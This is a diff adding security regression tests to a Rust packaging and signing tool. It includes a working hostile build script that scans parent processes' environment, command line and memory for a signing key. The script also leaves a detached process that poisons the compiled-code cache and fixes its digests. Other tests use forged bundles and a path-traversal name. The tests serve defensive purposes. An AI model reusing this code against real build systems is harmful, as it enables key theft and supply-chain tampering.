@@ -398,3 +398,233 @@ fn image_kinds_from_the_command_line() {
     let e = fails(limes_pack_cmd().args(["build", "--image", "hermit", "--kernel", "/dev/null", "--out-dir"]).arg(out.path().join("x")).arg(pack("noop")), 1);
     assert!(e.contains("--image linux"), "{e}");
 }
+
+/// The hostile build script of [`a_hostile_build_script_gets_neither_key_nor_signed_code`]:
+/// it looks for the secret key in every `limes-pack` ancestor's environment,
+/// command line and memory, writes what it found, and leaves a process
+/// behind (double fork, `setsid`) to rewrite this crate's AOT cache entries.
+const HOSTILE_BUILD_RS: &str = r#"
+use std::io::{Read, Seek, SeekFrom};
+fn contains(hay: &[u8], needle: &[u8]) -> bool {
+    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
+}
+fn main() {
+    println!("cargo:rerun-if-env-changed=HOSTILE_RUN");
+    let env = |k: &str| std::env::var(k).unwrap();
+    let needle = std::fs::read(env("HOSTILE_NEEDLE")).unwrap();
+    let mut found = Vec::new();
+    let mut pid = std::process::id();
+    while pid > 1 {
+        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+        pid = stat.rsplit(')').next().and_then(|r| r.split_whitespace().nth(1)).and_then(|p| p.parse().ok()).unwrap_or(0);
+        if std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default().trim() != "limes-pack" {
+            continue;
+        }
+        for what in ["environ", "cmdline"] {
+            if std::fs::read(format!("/proc/{pid}/{what}")).is_ok_and(|b| contains(&b, &needle)) {
+                found.push(what.to_string());
+            }
+        }
+        let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
+        let Ok(mut mem) = std::fs::File::open(format!("/proc/{pid}/mem")) else { continue };
+        for line in maps.lines() {
+            let mut f = line.split_whitespace();
+            let (Some(range), Some(perms)) = (f.next(), f.next()) else { continue };
+            let Some((a, b)) = range.split_once('-') else { continue };
+            let (a, b) = (u64::from_str_radix(a, 16).unwrap(), u64::from_str_radix(b, 16).unwrap());
+            if !perms.starts_with('r') || b - a > 1 << 30 {
+                continue;
+            }
+            let mut buf = vec![0u8; (b - a) as usize];
+            if mem.seek(SeekFrom::Start(a)).is_ok() && mem.read_exact(&mut buf).is_ok() && contains(&buf, &needle) {
+                found.push(format!("mem {range}"));
+            }
+        }
+    }
+    std::fs::write(env("HOSTILE_REPORT"), found.join("\n")).unwrap();
+    let _ = std::process::Command::new("sh")
+        .arg("-c")
+        .arg("(setsid sh \"$0\" \"$1\" \"$2\" >/dev/null 2>&1 &)")
+        .arg(env("HOSTILE_POISON"))
+        .arg(env("HOSTILE_CACHE"))
+        .arg(env("HOSTILE_ALIVE"))
+        .status();
+}
+"#;
+
+/// Left running by the build script: proves it is alive, and rewrites the
+/// AOT cache entries of the hostile crate (found by the marker its code
+/// carries) and the digests recorded beside them.
+const HOSTILE_POISON_SH: &str = r#"
+cache="$1"; alive="$2"
+echo $$ > "$alive.pid"
+i=0
+while [ $i -lt 300 ]; do
+  date +%s%N > "$alive"
+  for f in $(grep -l HOSTILE-CRATE-MARK-7f3a "$cache"/*.cwasm 2>/dev/null); do
+    grep -q PWNED-BY-BUILD-RS "$f" && continue
+    printf 'PWNED-BY-BUILD-RS' | dd of="$f" bs=1 seek=4096 conv=notrunc 2>/dev/null
+    s=$(sha256sum "$f" | cut -d' ' -f1)
+    sed -i "s/\"sha256\":\"[0-9a-f]*\"/\"sha256\":\"$s\"/" "${f%.cwasm}.meta.json"
+  done
+  sleep 0.1; i=$((i+1))
+done
+"#;
+
+/// Attack: a dependency's build script (here the crate's own: it runs the
+/// same way) hunts for the signing key in limes-pack's environment, command
+/// line and memory, and leaves a process behind that rewrites the AOT cache.
+/// Before, the key was in `/proc/PID/environ`, the process outlived the
+/// build, and the next signed build shipped its native code. Now the key
+/// is nowhere it can read while cargo runs, the signed build ends every
+/// process the build left before it reads the key, and signed native code
+/// is compiled from the component, never taken from the cache.
+#[test]
+fn a_hostile_build_script_gets_neither_key_nor_signed_code() {
+    use limes_bundle::archive::{read_bundle, BundleLimits, InMemory, SignaturePolicy};
+    let key = test_key();
+    let work = tempdir();
+    let w = work.path();
+    let dir = new_crate(w, "hostile", "noop");
+    std::fs::write(dir.join("build.rs"), HOSTILE_BUILD_RS).unwrap();
+    std::fs::write(
+        dir.join("src/lib.rs"),
+        "use limes_sdk::{Error, Request, Response};\nconst MARK: &str = \"HOSTILE-CRATE-MARK-7f3a\";\npub fn handle(req: Request) -> Result<Response, Error> {\n    if req.body == b\"mark\" {\n        return Ok(Response::new(MARK));\n    }\n    Ok(Response::new(req.body))\n}\nlimes_sdk::export!(handle);\n",
+    )
+    .unwrap();
+    std::fs::write(w.join("poison.sh"), HOSTILE_POISON_SH).unwrap();
+    let secret = std::fs::read_to_string(&key.secret).unwrap();
+    // The key's payload: what a thief would look for.
+    let payload = secret.lines().find(|l| !l.starts_with("untrusted comment")).unwrap();
+    std::fs::write(w.join("needle"), payload).unwrap();
+    let target = target_dir(w);
+    let cache = target.join("limes/cache/aot");
+    let build = |run: &str| {
+        let mut c = limes_pack_cmd();
+        c.args(["build", "--json", "--no-microvm", "--out-dir"])
+            .arg(w.join(run))
+            .arg(&dir)
+            .env("CARGO_TARGET_DIR", &target)
+            .env("HOSTILE_RUN", run)
+            .env("HOSTILE_NEEDLE", w.join("needle"))
+            .env("HOSTILE_REPORT", w.join(format!("{run}.report")))
+            .env("HOSTILE_POISON", w.join("poison.sh"))
+            .env("HOSTILE_CACHE", &cache)
+            .env("HOSTILE_ALIVE", w.join(format!("{run}.alive")));
+        c
+    };
+    let kill_left = |run: &str| {
+        if let Ok(pid) = std::fs::read_to_string(w.join(format!("{run}.alive.pid"))) {
+            let _ = std::process::Command::new("kill").arg("-9").arg(pid.trim()).status();
+        }
+    };
+    // 1. An unsigned build: its left process poisons the cache (the attack
+    //    works as described, or this test proves nothing).
+    ok(&mut build("dev"));
+    let poisoned = |p: &std::path::Path| std::fs::read(p).is_ok_and(|b| b.windows(17).any(|w| w == b"PWNED-BY-BUILD-RS"));
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while !std::fs::read_dir(&cache).unwrap().any(|e| poisoned(&e.unwrap().path())) {
+        assert!(std::time::Instant::now() < deadline, "the left process never poisoned the cache");
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    // 2. A signed build, key in a variable, with the poisoner still at work.
+    let signed = ok(build("release").args(["--sign", "env:LIMES_TEST_KEY"]).env("LIMES_TEST_KEY", &secret));
+    kill_left("dev");
+    let report = std::fs::read_to_string(w.join("release.report")).unwrap();
+    let left_alive = std::fs::read_to_string(w.join("release.alive.pid")).ok().filter(|pid| std::path::Path::new(&format!("/proc/{}", pid.trim())).exists());
+    kill_left("release");
+    assert_eq!(report, "", "the build script found the signing key");
+    assert!(left_alive.is_none(), "a process the signed build started outlived it");
+    let bundle = std::path::PathBuf::from(json(&signed)["bundle"].as_str().unwrap());
+    let mut mem = InMemory::default();
+    read_bundle(&bundle, &BundleLimits::default(), SignaturePolicy::Unverified, &mut mem).unwrap();
+    for (path, bytes) in &mem.0 {
+        assert!(!bytes.windows(17).any(|w| w == b"PWNED-BY-BUILD-RS"), "{path} in the signed bundle carries the poisoned cache's code");
+    }
+    // What was signed runs, with the function's own answer.
+    let (answer, _) = run_installed(&bundle, &key, limes_sdk::Request::new("mark"), Vec::new());
+    assert_eq!(answer.unwrap().body, b"HOSTILE-CRATE-MARK-7f3a");
+}
+
+/// Attack: a bundle built unsigned (a build runs third-party code) whose
+/// native code was changed afterwards, with the manifest's digests made to
+/// match. `limes-pack sign` compiles the tiers again from the bundle's own
+/// component and refuses to sign code that differs.
+#[test]
+fn sign_refuses_native_code_it_did_not_compile() {
+    use limes_bundle::archive::{read_bundle, write_bundle, BundleLimits, InMemory, SignaturePolicy, Source};
+    let key = test_key();
+    let work = tempdir();
+    let out = ok(limes_pack_cmd().args(["build", "--json", "--no-microvm", "--out-dir"]).arg(work.path()).arg(pack("noop")));
+    let bundle = std::path::PathBuf::from(json(&out)["bundle"].as_str().unwrap());
+    let mut mem = InMemory::default();
+    let v = read_bundle(&bundle, &BundleLimits::default(), SignaturePolicy::Unverified, &mut mem).unwrap();
+    let mut manifest = v.manifest.clone();
+    for (path, bytes) in &mut mem.0 {
+        if path == "aot/x86-64.cwasm" {
+            let mid = bytes.len() / 2;
+            bytes[mid..mid + 32].fill(0xcc);
+            manifest.files.iter_mut().find(|f| f.path == *path).unwrap().sha256 = limes_bundle::sha256_hex(bytes);
+        }
+    }
+    let forged = work.path().join("forged.limes");
+    let files: Vec<(String, Source<'_>)> = mem.0.iter().map(|(p, b)| (p.clone(), Source::Bytes(b))).collect();
+    write_bundle(&forged, &manifest.to_json(), None, &files, 0).unwrap();
+    let e = fails(limes_pack_cmd().args(["sign"]).arg(&forged).arg("--key").arg(&key.secret), 3);
+    assert!(e.contains("refusing to sign") && e.contains("x86-64 tier"), "{e}");
+    assert!(read_bundle(&forged, &BundleLimits::default(), SignaturePolicy::Unverified, &mut limes_bundle::archive::Discard).unwrap().signature.is_none());
+    // The genuine unsigned bundle signs.
+    ok(limes_pack_cmd().args(["sign"]).arg(&bundle).arg("--key").arg(&key.secret));
+}
+
+/// Attack: a metadata `name` that is a path. It is refused when the crate
+/// is discovered, before anything is written.
+#[test]
+fn a_function_name_is_never_a_path() {
+    let work = tempdir();
+    let dir = new_crate(work.path(), "escape", "noop");
+    let manifest = dir.join("Cargo.toml");
+    let text = std::fs::read_to_string(&manifest).unwrap();
+    let escaped = if text.contains("[package.metadata.limes]\n") {
+        text.replacen("[package.metadata.limes]\n", "[package.metadata.limes]\nname = \"../../../../out/x\"\n", 1)
+    } else {
+        format!("{text}\n[package.metadata.limes]\nname = \"../../../../out/x\"\n")
+    };
+    std::fs::write(&manifest, escaped).unwrap();
+    let e = fails(limes_pack_cmd().args(["build", "--no-microvm"]).arg(&dir).env("CARGO_TARGET_DIR", target_dir(work.path())), 1);
+    assert!(e.contains("is not a function name"), "{e}");
+    fn any_named(d: &std::path::Path, name: &str) -> bool {
+        std::fs::read_dir(d).map(|r| r.flatten().any(|e| e.file_name() == name || (e.path().is_dir() && any_named(&e.path(), name)))).unwrap_or(false)
+    }
+    assert!(!any_named(work.path(), "x.wasm") && !any_named(&repo().join("out"), "x.wasm"));
+}
+
+/// Attack: with no home at all, the SDK used to fall back to
+/// `/tmp/.local/share/limes-pack`, where another user could plant a crate
+/// whose build script would run as us. There is no fallback; a home that
+/// others can write is refused; an SDK copy that differs from the one
+/// limes-pack carries is written again before it is used.
+#[test]
+fn the_sdk_never_comes_from_a_place_others_can_write() {
+    use std::os::unix::fs::PermissionsExt;
+    let work = tempdir();
+    let e = fails(
+        limes_pack_cmd().args(["new", "homeless", "--dir"]).arg(work.path()).env_remove("HOME").env_remove("XDG_DATA_HOME").env_remove("LIMES_PACK_HOME"),
+        1,
+    );
+    assert!(e.contains("no home for limes-pack"), "{e}");
+    assert!(!work.path().join("homeless").exists());
+    let shared = work.path().join("shared");
+    std::fs::create_dir(&shared).unwrap();
+    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let e = fails(limes_pack_cmd().args(["new", "planted", "--dir"]).arg(work.path()).env("LIMES_PACK_HOME", &shared), 1);
+    assert!(e.contains("writable by its group or others"), "{e}");
+    // Our own copy, edited: written again from the embedded SDK.
+    let dir = new_crate(work.path(), "fresh", "noop");
+    let sdk_lib = std::fs::read_dir(work.path().join("home/sdk")).unwrap().next().unwrap().unwrap().path().join("crates/limes-sdk/src/lib.rs");
+    let genuine = std::fs::read(&sdk_lib).unwrap();
+    std::fs::write(&sdk_lib, "compile_error!(\"planted\");").unwrap();
+    new_crate(work.path(), "again", "noop");
+    assert_eq!(std::fs::read(&sdk_lib).unwrap(), genuine);
+    assert!(dir.is_dir());
+}
